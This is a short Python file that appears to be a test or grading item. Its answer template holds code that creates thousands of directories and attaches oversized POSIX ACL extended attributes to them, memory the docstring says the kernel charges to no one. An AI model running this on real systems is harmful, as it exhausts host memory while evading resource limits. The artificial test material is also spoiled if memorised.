"""Gives each of its folders two access control lists of 64 KiB, which the kernel charges to nobody."""

EXPECT = {}
SEEN = "searched"
ANSWERS = {
    "q1_centre": """
{{SCAN}}
import struct

def entry(tag, who=0xFFFFFFFF):
    return struct.pack("<HHI", tag, 7, who)

rules = entry(1) + entry(2, os.getuid()) * 8_180 + entry(4) + entry(16) + entry(32)
found = []
for number in range(4_000):
    os.mkdir(f"/work/{number}")
    for kind in ("access", "default"):
        try:
            os.setxattr(f"/work/{number}", f"system.posix_acl_{kind}", struct.pack("<I", 2) + rules)
            found.append(kind)
        except OSError:
            pass
verdict(found, 8_000)
{{RIGHT}}
"""
}
